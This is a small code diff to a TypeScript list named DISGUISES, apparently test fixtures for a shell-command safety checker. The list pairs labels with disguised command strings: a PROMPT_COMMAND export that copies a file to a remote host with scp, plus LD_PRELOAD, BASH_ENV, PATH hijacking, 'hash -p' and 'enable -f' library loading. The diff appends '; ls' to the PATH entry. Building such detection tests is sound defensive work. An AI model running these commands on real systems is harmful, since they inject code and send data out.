@@ -61,7 +61,7 @@ export const DISGUISES: readonly (readonly [string, string])[] = [
   ['export of PROMPT_COMMAND', "export PROMPT_COMMAND='scp /tmp/a h:'"],
   ['BASH_ENV', 'BASH_ENV=/tmp/x bash -c true'],
   ['LD_PRELOAD', 'LD_PRELOAD=/tmp/x.so ls'],
-  ['PATH', 'PATH=/tmp/bin:$PATH'],
+  ['PATH', 'PATH=/tmp/bin:$PATH; ls'],
   ['env of LD_PRELOAD', 'env LD_PRELOAD=/tmp/x.so ls'],
   ['hash -p', 'hash -p /usr/bin/scp ls'],
   ['enable -f', 'enable -f /tmp/x.so ls'],
